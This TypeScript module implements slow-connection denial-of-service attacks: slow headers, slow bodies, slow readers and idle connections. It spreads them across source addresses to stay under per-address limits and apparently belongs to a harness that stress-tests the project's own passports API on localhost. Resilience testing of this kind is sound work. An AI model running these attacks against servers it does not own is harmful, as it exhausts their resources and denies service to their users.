import type { Socket } from "node:net";
import { type AttackContext, requestOf } from "./attack.ts";
import { type Counts, holdConnections, noCounts, responseCounter } from "./raw-connections.ts";

// Cheap connections: idle ones, and ones that send or read a byte at long intervals.

/** How many times a byte is sent or read during an attack. */
const TICKS = 10;

type Slow = {
  connections: number;
  addresses: number;
  maxAttempts: number;
  reading: boolean;
  /** The first bytes to send. Can be empty. */
  opening: (at: number) => string;
  tick: (socket: Socket) => void;
};

async function holdSlowly({ port, isTls, durationMs }: AttackContext, slow: Slow): Promise<Counts> {
  const counts = noCounts();
  const { connections, addresses, maxAttempts, reading } = slow;
  const use = (socket: Socket): void => {
    const opening = slow.opening(counts.requests);
    if (opening !== "") {
      socket.write(opening);
      counts.requests += 1;
    }
    const timer = setInterval(() => slow.tick(socket), durationMs / TICKS);
    socket.once("close", () => clearInterval(timer));
    if (reading) socket.on("data", responseCounter(counts));
  };
  const over = new AbortController();
  await holdConnections({ port, isTls, connections, addresses, maxAttempts, durationMs, over, counts, reading, use });
  return counts;
}

/** Keeps the number of connections per address below any reasonable limit. */
const PER_ADDRESS = 125;
const spread = (connections: number) => ({
  connections,
  addresses: Math.ceil(connections / PER_ADDRESS),
  maxAttempts: 20 * connections,
});
const sendByte = (socket: Socket): void => {
  socket.write("a");
};

export const slowHeaders = (context: AttackContext, connections: number): Promise<Counts> =>
  holdSlowly(context, {
    ...spread(connections),
    reading: true,
    opening: () => "GET /api/v1/passports/1 HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ",
    tick: sendByte,
  });

export const slowBodies = (context: AttackContext, connections: number): Promise<Counts> =>
  holdSlowly(context, {
    ...spread(connections),
    reading: true,
    opening: (at) => {
      const path = at % 4 < 2 ? "/api/v1/passports/1" : "/health/live";
      const request = requestOf(path, "Content-Length: 1000\r\n");
      return at % 2 === 0 ? request : request.replace("GET", "POST");
    },
    tick: sendByte,
  });

export const slowReaders = (context: AttackContext, connections: number): Promise<Counts> =>
  holdSlowly(context, {
    ...spread(connections),
    reading: false,
    opening: () => requestOf(context.largestPage),
    tick: (socket) => void socket.read(1),
  });

export const idle = (context: AttackContext, connections: number, addresses: number): Promise<Counts> =>
  holdSlowly(context, {
    ...{ connections, addresses, maxAttempts: 2 * connections, reading: true, opening: () => "", tick: () => {} },
  });
